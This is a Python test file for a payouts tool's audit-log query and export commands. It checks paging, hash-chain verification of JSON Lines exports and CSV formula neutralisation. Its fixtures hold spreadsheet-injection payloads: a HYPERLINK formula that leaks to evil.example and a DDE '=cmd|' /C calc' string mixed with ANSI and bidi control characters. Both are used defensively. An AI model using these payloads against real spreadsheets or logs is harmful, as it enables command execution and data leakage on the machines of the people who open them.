"""``payhub audit query`` and ``audit export`` stream the audit log, on SQLite and PostgreSQL: a table shows one page
(1,000 entries by default) and names the next, JSON and CSV write every match, the JSON Lines export recomputes to
the chain, its CSV is neutralised, and the entry recording the read is written after the stream with the number of
entries it wrote (``incomplete`` when the stream was cut short).

The log is seeded through the audit writer itself (so the chain is payhub's), with hostile text in actors, subjects
and details: spreadsheet formulas, bidi and control characters, non-ASCII.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import CliSite
from sqlalchemy import select

from payhub.audit import FIELDS, GENESIS, Entry, canonical_json, entry_hash
from payhub.audit_query import EXPORT_COLUMNS, jsonl_line
from payhub.cli import output
from payhub.csvsafe import restore_cell
from payhub.db.schema import audit_log
from payhub.runtime import Runtime

pytestmark = pytest.mark.slow  # seeds and streams thousands of audit entries

FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
REASON = "=cmd|' /C calc'!A0 \x1b[2J \u202eü"
SEEDED = 1205  # more than a table's page


def seed(rt: Runtime, n: int, *, pad: int = 0) -> None:
    """Append ``n`` entries in the pipeline's shapes (every 7th by a hostile actor about a hostile subject), in a few
    transactions; ``pad`` adds that many characters to each detail."""
    batch: list[Entry] = []
    for i in range(1, n + 1):
        if i % 7 == 0:
            batch.append(Entry("payout.held", "payee", "-2+3" if i % 2 else FORMULA, {"reason": REASON, "n": i},
                               outcome="held", actor=FORMULA))
        elif i % 3 == 0:
            batch.append(Entry("reward.calculated", "reward", i, {"amount": Decimal("12.50"), "currency": "EUR",
                                                                   "payee": f"rep-{i % 10}", "pad": "x" * pad}))
        else:
            batch.append(Entry("event.ingested", "event", i, {"key": f"crm:Opportunity:{i}:won", "pad": "y" * pad}))
        if len(batch) == 500 or i == n:
            with rt.transaction() as tx:
                for entry in batch:
                    tx.audit(entry.action, entry.subject_type, entry.subject_id, entry.detail, outcome=entry.outcome,
                             actor=entry.actor)
            batch = []


def stored(rt: Runtime) -> list[dict[str, Any]]:
    """Every entry as stored, oldest first."""
    with rt.engine.connect() as conn:
        return [dict(r._mapping) for r in conn.execute(select(audit_log).order_by(audit_log.c.seq))]


def recomputed_head(lines: list[str]) -> str:
    """Recompute the chain from JSON Lines as an auditor's script would; return its head hash."""
    prev = GENESIS
    for n, line in enumerate(lines, start=1):
        entry = json.loads(line)
        assert entry["seq"] == n and entry["prev_hash"] == prev
        fields = {**entry, "detail": canonical_json(entry["detail"])}
        assert entry_hash({f: fields[f] for f in FIELDS}) == entry["hash"], f"entry {n} does not match its hash"
        prev = entry["hash"]
    return prev


@pytest.fixture
def site(make_runtime: Any, tmp_path: Path) -> Iterator[tuple[CliSite, Runtime]]:
    rt = make_runtime("")
    seed(rt, SEEDED)
    yield CliSite(tmp_path), rt


def reads(rt: Runtime, action: str) -> list[dict[str, Any]]:
    return [e for e in stored(rt) if e["action"] == action]


# ------------------------------------------------------------------------------------------------- export


def test_the_json_lines_export_recomputes_to_the_chain_and_is_recorded_after_it(
        site: tuple[CliSite, Runtime], tmp_path: Path) -> None:
    cli, rt = site
    before = stored(rt)
    target = tmp_path / "audit.jsonl"
    result = cli.ok("audit", "export", "-o", str(target))
    assert f"exported {len(before)} entries to {target}" in result.stderr
    lines = target.read_text(encoding="utf-8").splitlines(keepends=True)
    assert len(lines) == len(before) >= SEEDED
    assert recomputed_head(lines) == before[-1]["hash"]
    # Every value is the stored text; detail is the stored object, written back exactly as the line holds it.
    for line, row in zip(lines, before, strict=True):
        entry = json.loads(line)
        assert list(entry) == list(EXPORT_COLUMNS)
        assert {**entry, "detail": canonical_json(entry["detail"])} == row
        assert json.dumps(entry, ensure_ascii=False) + "\n" == line
    assert any(json.loads(line)["detail"].get("reason") == REASON for line in lines)
    # The read is recorded once the stream is written: after every exported entry, with their number.
    [record] = reads(rt, "audit.export")
    assert record["seq"] == len(before) + 1 and record["outcome"] == "ok"
    assert json.loads(record["detail"]) == {"filters": {}, "format": "jsonl", "output": str(target),
                                            "rows": len(before)}
    # Standard output gets the same bytes, plus the entry that recorded the first export.
    again = cli.ok("audit", "export").stdout
    assert again.startswith("".join(lines)) and again.count("\n") == len(before) + 1


def test_the_csv_export_is_neutralised_and_restores_to_the_stored_text(site: tuple[CliSite, Runtime],
                                                                        tmp_path: Path) -> None:
    cli, rt = site
    before = stored(rt)
    target = tmp_path / "audit.csv"
    cli.ok("audit", "export", "--format", "csv", "-o", str(target))
    with target.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == list(EXPORT_COLUMNS) and len(rows) == len(before)
    hostile = [r for r in rows if r["action"] == "payout.held"]
    assert hostile and all(r["actor"] == "'" + FORMULA for r in hostile)
    assert {r["subject_id"] for r in hostile} == {"'-2+3", "'" + FORMULA}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    assert [{k: restore_cell(v) for k, v in r.items()} for r in rows] == [
        {k: str(v) for k, v in row.items()} for row in before]
    [record] = reads(rt, "audit.export")
    assert json.loads(record["detail"])["rows"] == len(before)


def test_export_filters(site: tuple[CliSite, Runtime]) -> None:
    cli, rt = site
    before = stored(rt)

    def exported(*args: str) -> list[int]:
        return [json.loads(line)["seq"] for line in cli.ok("audit", "export", *args).stdout.splitlines()]

    assert exported("--action", "payout.*") == [e["seq"] for e in before if e["action"].startswith("payout.")]
    assert exported("--actor", FORMULA) == [e["seq"] for e in before if e["actor"] == FORMULA]
    assert exported("--subject", "reward:9") == [9]
    assert exported("--subject", "-2+3") == [e["seq"] for e in before if e["subject_id"] == "-2+3"]
    assert exported("--until", "2000-01-01") == []
    assert exported("--since", "2000-01-01", "--action", "event.ingested") == [
        e["seq"] for e in before if e["action"] == "event.ingested"]
    recorded = json.loads(reads(rt, "audit.export")[-1]["detail"])
    assert recorded["filters"] == {"since": "2000-01-01T00:00:00.000000Z", "action": "event.ingested"}
    assert recorded["rows"] == len([e for e in before if e["action"] == "event.ingested"])


def test_an_export_cut_short_is_recorded_incomplete(site: tuple[CliSite, Runtime], tmp_path: Path) -> None:
    cli, rt = site
    full = cli.cli("audit", "export", "-o", "/dev/full")  # every write fails: no space left on the device
    assert full.exit_code == 1 and "cannot write /dev/full" in full.stderr
    missing = cli.cli("audit", "export", "-o", str(tmp_path / "nowhere" / "audit.jsonl"))
    assert missing.exit_code == 1 and "cannot write" in missing.stderr
    records = reads(rt, "audit.export")
    assert [r["outcome"] for r in records] == ["incomplete", "incomplete"]
    assert json.loads(records[1]["detail"])["rows"] == 0


# ------------------------------------------------------------------------------------------------- query


def test_a_query_table_shows_a_page_and_names_the_next(site: tuple[CliSite, Runtime]) -> None:
    cli, rt = site
    first = cli.ok("audit", "query").stdout
    assert "more entries follow: --after 1000" in first
    assert "│ 1000 " in first and "│ 1001 " not in first
    second = cli.ok("audit", "query", "--after", "1000").stdout
    assert "│ 1001 " in second and "│ 1000 " not in second and "more entries follow" not in second
    last = cli.ok("audit", "query", "--after", "1000", "--limit", "5").stdout
    assert "│ 1005 " in last and "│ 1006 " not in last and "more entries follow: --after 1005" in last
    records = reads(rt, "audit.query")
    assert [json.loads(r["detail"]) for r in records] == [
        {"filters": {}, "rows": 1000}, {"filters": {}, "after": 1000, "rows": SEEDED + 1 - 1000},
        {"filters": {}, "after": 1000, "rows": 5}]
    usage = " ".join(cli.ok("audit", "query", "--help").stdout.split())
    assert "--limit INTEGER RANGE At most this many entries [default: 1000 in a table, all in JSON and CSV]" in usage
    assert "--after SEQ Only entries after this sequence number" in usage


def test_json_and_csv_queries_stream_every_match_without_a_limit(site: tuple[CliSite, Runtime]) -> None:
    cli, rt = site
    before = stored(rt)
    queried = cli.json("audit", "query")
    assert [e["seq"] for e in queried] == [e["seq"] for e in before]  # past the table's page: no limit
    assert queried[6]["detail"] == {"n": 7, "reason": REASON} and queried[6]["actor"] == FORMULA
    text = cli.ok("audit", "query", "--format", "csv", "--after", "1200").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [int(r["seq"]) for r in rows] == [e["seq"] for e in stored(rt) if 1200 < e["seq"] <= len(before) + 1]
    assert [r["actor"] for r in rows if int(r["seq"]) == 1204] == ["'" + FORMULA]
    assert len(cli.json("audit", "query", "--limit", "3", "--after", "7")) == 3
    assert json.loads(reads(rt, "audit.query")[0]["detail"]) == {"filters": {}, "rows": len(before)}


def test_a_streamed_json_array_is_the_text_of_to_json() -> None:
    nested = {"a": [1, {"b": "\u202e\x1b"}], "empty": {}}
    items: list[dict[Any, Any]] = [
        {"seq": 1, "none": None, "flags": [True, False], "float": 1.5, "nested": nested, "list": [],
         "amount": Decimal("1.20"), "at": datetime(2026, 1, 2, tzinfo=UTC), 3: "x", "text": "é\n\"q\""}, {}]
    cases: list[list[dict[Any, Any]]] = [items, [], [{"only": 1}]]
    for rows in cases:
        out = io.StringIO()
        assert output._json_array(iter(rows), out) == len(rows)
        assert out.getvalue() == output.to_json(rows) + "\n"


def test_a_json_lines_line_is_json_dumps_of_the_entry() -> None:
    detail = canonical_json({"reason": REASON, "n": 7, "nested": {"a": [1, 2.5, None, True]}})
    entry: dict[str, Any] = {
        "seq": 7, "at": "2026-01-02T03:04:05.000006Z", "actor": FORMULA, "action": "payout.held",
        "subject_type": "payee", "subject_id": "-2+3", "outcome": "held", "origin": "cli@host:1", "detail": detail,
        "prev_hash": GENESIS, "hash": "f" * 64}
    cases = [entry, {**entry, "detail": "{not json"}, {**entry, "detail": "{}"},
             # Values of other types, as a row changed outside payhub (SQLite keeps any type) may hold.
             {**entry, "seq": "7"}, {**entry, "subject_id": 12}, {**entry, "origin": None}, {**entry, "seq": True}]
    for case in cases:
        line = jsonl_line(case)
        expected = {c: case[c] for c in EXPORT_COLUMNS}
        with contextlib.suppress(ValueError):
            expected["detail"] = json.loads(case["detail"])
        assert line == json.dumps(expected, ensure_ascii=False) + "\n"
